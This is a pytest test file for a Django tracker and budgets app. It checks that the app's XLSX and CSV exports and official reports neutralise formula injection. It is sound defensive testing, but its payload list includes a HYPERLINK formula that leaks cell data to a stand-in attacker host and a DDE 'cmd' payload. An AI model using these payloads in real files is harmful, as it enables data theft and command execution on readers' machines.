"""Formula injection: every XLSX and CSV the product writes keeps text a user typed as text.

The demo (tracker and budgets) is loaded once; every free-text field of every row is then
overwritten with a formula (`=HYPERLINK(...)`, `+…`, `-…`, `@…` in turn), every export is
downloaded and every official report produced, and each file is opened with openpyxl: no cell
is a formula, and the poisoned text is there as text."""

from __future__ import annotations

import datetime
import io
import itertools
from io import StringIO
from types import SimpleNamespace

import openpyxl
import pytest
from django.apps import apps
from django.core.management import call_command
from django.db import models, transaction
from django.db.models import CharField, Value
from django.db.models.functions import Cast, Concat
from django.test import override_settings
from django.urls import reverse

from budgets.demo.loader import load_demo_budgets
from tests import factories
from tracker.core import roles
from tracker.core.permissions import plans_visible_to
from tracker.core.spreadsheets import csv_bytes, new_workbook, workbook_bytes
from tracker.models import Area, GeneratedReport, Plan, RadioStation, RadioWork, SmartphoneHandover, Task, Unit, User
from tracker.registers import smartphones
from tracker.reports import data, services

pytestmark = [pytest.mark.django_db, pytest.mark.xdist_group(__name__)]  # one demo load: see the Makefile
D = datetime.date
PAYLOADS = ['=HYPERLINK("http://attacker.example/?leak="&B2,"Xem")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
# Fields whose text the code reads as a code, not as something a user typed.
NOT_FREE_TEXT = {"password", "username", "content_type", "language", "email"}


def _free_text_fields(model) -> list[str]:
    return [
        field.name
        for field in model._meta.concrete_fields
        if isinstance(field, models.CharField | models.TextField)
        and not field.choices
        and field.name not in NOT_FREE_TEXT
        and not field.name.endswith(("sha256", "_code", "code"))
        and not isinstance(field, models.FileField)
    ]


def poison_every_text_field() -> int:
    """Every free-text column of every tracker/budgets row begins with a formula (+ its pk, so
    unique columns stay unique). Returns how many columns were poisoned."""
    payloads = itertools.cycle(PAYLOADS)
    count = 0
    for app in ("tracker", "budgets"):
        for model in apps.get_app_config(app).get_models():
            if model._meta.proxy or model.__name__.startswith("Historical"):
                continue
            for name in _free_text_fields(model):
                payload = next(payloads)
                # PostgreSQL enforces a column's length (SQLite does not): the payload is cut to
                # leave room for " " + the pk; its formula prefix (≥ 10 characters) stays.
                limit = model._meta.get_field(name).max_length
                if limit and limit < 24:
                    continue  # a short code-like column (no room for a formula and a pk)
                if limit:
                    payload = payload[: limit - 12]
                model.objects.exclude(**{name: ""}).update(
                    **{name: Concat(Value(payload + " "), Cast("pk", CharField()))}
                )
                count += 1
    return count


def add_a_sample_smartphone_handover() -> None:
    """The demo enters no handover (no seed states one): one on the sample plan's first task, so
    the smartphone register's export has a row whose text can be poisoned."""
    if SmartphoneHandover.objects.exists():
        return
    task = Task.objects.filter(activity__plan__is_sample=True).select_related("area").order_by("pk").first()
    entry = SmartphoneHandover(
        task=task,
        area=task.area or Area.objects.filter(level=Area.Level.COMMUNE).first(),
        priority_class=SmartphoneHandover.PriorityClass.POOR_MERIT,
        source=SmartphoneHandover.Source.DONATIONS,
        phones=1,
        households=1,
        handed_over_on=datetime.date(2026, 4, 2),
        note="Mẫu",
    )
    smartphones.handover_save(entry=entry, actor=User.objects.get(username="quanly"))


@pytest.fixture(scope="module")
def poisoned(django_db_setup, django_db_blocker, tmp_path_factory):
    media = override_settings(MEDIA_ROOT=tmp_path_factory.mktemp("media"))
    with media, django_db_blocker.unblock(), transaction.atomic():
        call_command("load_demo", stdout=StringIO())
        load_demo_budgets()
        add_a_sample_smartphone_handover()
        columns = poison_every_text_field()
        yield SimpleNamespace(columns=columns)
        transaction.set_rollback(True)


def formula_cells(content: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [
        f"{sheet.title}!{cell.coordinate}={cell.value!r}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def text_cells(content: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [
        cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.data_type == "s"
    ]


def assert_safe(content: bytes) -> None:
    assert content[:2] == b"PK"
    assert formula_cells(content) == []
    # The poisoned text is there, as typed, and marked as text.
    poisoned = [text for text in text_cells(content) if text.startswith(("=HYPERLINK", "+1+cmd", "-2+3", "@SUM"))]
    assert poisoned, "the export shows none of the poisoned text"


# --- The writer itself ----------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", '=HYPERLINK("x")'])
def test_text_that_looks_like_a_formula_is_written_as_text(text):
    book = new_workbook()
    book.active.append([text, 5, D(2026, 1, 2), 1234567])
    book.active.cell(row=2, column=1, value=text)
    other = book.create_sheet("Khác")
    other["A1"] = text
    other.cell(row=2, column=1).value = text
    content = workbook_bytes(book)
    assert formula_cells(content) == []
    reread = openpyxl.load_workbook(io.BytesIO(content))
    first = reread.worksheets[0]
    assert first["A1"].value == text.lstrip("\t\r") or first["A1"].value == text
    assert first["A1"].data_type == "s" and first["A1"].quotePrefix
    # Numbers and dates keep their types.
    assert (first["B1"].data_type, first["B1"].value) == ("n", 5)
    assert first["C1"].is_date and first["C1"].value.date() == D(2026, 1, 2)
    assert reread.worksheets[1]["A1"].data_type == "s" and reread.worksheets[1]["A2"].data_type == "s"


def test_characters_xml_cannot_hold_are_dropped_not_a_crash():
    book = new_workbook()
    book.active.append(["Công ty\x01 Thử\x0b"])
    assert openpyxl.load_workbook(io.BytesIO(workbook_bytes(book))).active["A1"].value == "Công ty Thử"


def test_csv_prefixes_formula_text_with_a_quote_and_keeps_numbers_and_dates():
    content = csv_bytes([["=1+1", "-5 người", "@x", "\t1", "Thôn Nà Lầu", 1234567, -5, D(2026, 3, 1), None]])
    assert content.decode("utf-8-sig") == (
        '"\'=1+1","\'-5 người","\'@x","\'\t1","Thôn Nà Lầu","1234567","-5","01/03/2026",""\r\n'
    )


# --- The "done when": a contractor =1+1 saved through the form ----------------------------


def test_a_contractor_typed_as_a_formula_is_exported_as_a_string_cell(client, settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path)
    commune = factories.AreaFactory(name="Xã Thử")
    unit = factories.UnitFactory(name="Phòng Văn hóa huyện Thử", kind=Unit.Kind.DEPARTMENT, area=commune.parent)
    officer = factories.UserFactory(unit=unit, role=roles.UNIT_OFFICER)
    task = factories.TaskFactory(unit=unit, area=commune.parent)
    station = RadioStation.objects.create(commune=commune)
    client.force_login(officer)
    response = client.post(
        reverse("tracker:radio_work_create"),
        {
            "station": station.pk,
            "task": task.pk,
            "work_type": "expansion",
            "contractor": "=1+1",
            "cost": "450000000",
            "started_on": "01/03/2026",
            "accepted_on": "",
            "handed_over_on": "",
            "station_kind": "ip",
            "wired_clusters": "0",
            "fm_clusters": "0",
            "ip_clusters": "5",
            "note": "@SUM(1+1)",
            "villages-TOTAL_FORMS": "0",
            "villages-INITIAL_FORMS": "0",
            "villages-MIN_NUM_FORMS": "0",
            "villages-MAX_NUM_FORMS": "1000",
        },
    )
    assert response.status_code == 302, response.context["form"].errors if response.context else response
    assert RadioWork.objects.get().contractor == "=1+1"
    content = client.get(reverse("tracker:radio_work_export")).content
    assert formula_cells(content) == []
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row if cell.value is not None}
    assert cells["=1+1"].data_type == "s"


# --- Every export, with every text field poisoned -------------------------------------------------

REGISTER_EXPORTS = [
    "tracker:radio_work_export",
    "tracker:radio_station_export",
    "tracker:info_point_export",
    "tracker:media_product_export",
    "tracker:publication_export",
    "tracker:smartphone_handover_export",
    "tracker:training_course_export",
]


def test_the_demo_has_many_free_text_columns_poisoned(poisoned):
    assert poisoned.columns > 60


@pytest.mark.parametrize("url_name", REGISTER_EXPORTS)
def test_register_exports_write_no_formula(client, poisoned, url_name):
    client.force_login(User.objects.get(username="quanly"))
    response = client.get(reverse(url_name), {"status": ""})
    assert response.status_code == 200
    assert_safe(response.content)


@pytest.mark.parametrize(
    ("url_name", "query"),
    [
        ("budgets:execution_export", {}),
        ("budgets:allocation_export", {}),
        ("budgets:disbursement_export", {}),
        ("budgets:import_template", {}),
    ],
)
def test_budget_exports_write_no_formula(client, poisoned, url_name, query):
    client.force_login(User.objects.get(username="taichinh"))
    response = client.get(reverse(url_name), query)
    assert response.status_code == 200
    if url_name != "budgets:import_template":
        assert_safe(response.content)
    else:
        assert formula_cells(response.content) == []


def test_the_monthly_donation_report_writes_no_formula(client, poisoned):
    client.force_login(User.objects.get(username="taichinh"))
    today = datetime.date.today()
    for months_back in (1, 2):
        index = today.year * 12 + today.month - 1 - months_back
        month = f"{index // 12}-{index % 12 + 1:02d}"
        response = client.get(reverse("budgets:donation_report_export"), {"month": month})
        assert response.status_code == 200
        assert formula_cells(response.content) == []


@pytest.mark.parametrize("kind", [choice for choice, _label in GeneratedReport.Kind.choices])
def test_official_report_workbooks_write_no_formula(poisoned, kind, settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path)
    manager = User.objects.get(username="quanly")
    # A plan of the manager's own province (a manager reads only their province's plans).
    plan = plans_visible_to(manager, Plan.objects.filter(targets__isnull=False)).order_by("pk").first()
    unit = manager.unit if kind == GeneratedReport.Kind.UNIT else None
    request = data.ReportRequest(
        kind=kind,
        period_type="year",
        period_start=D(2026, 1, 1),
        period_end=D(2026, 12, 31),
        plan_id=plan.pk if kind == GeneratedReport.Kind.TARGETS else None,
        unit_id=unit.pk if unit else None,
        issuer_id=None if unit else manager.unit.pk,
        place='=HYPERLINK("http://attacker.example")',
        symbol="BC-SKHCN",  # number and symbol are validated: formula text cannot reach them
        summary="=1+1 Báo cáo",
        signing_authority="@SUM(1)",
        signer_title="-Giám đốc",
        signer_name="=Nguyễn Văn A",
        recipients="=Như trên",
        recommendations="=Kiến nghị",
    )
    report = services.generated_report_request(actor=manager, request=request, language="vi")
    services.generated_report_enqueue(report)
    report.refresh_from_db()
    assert report.status == GeneratedReport.Status.DONE, report.error_message
    content, _type, _name = services.generated_report_file(report, "xlsx")
    assert_safe(content)
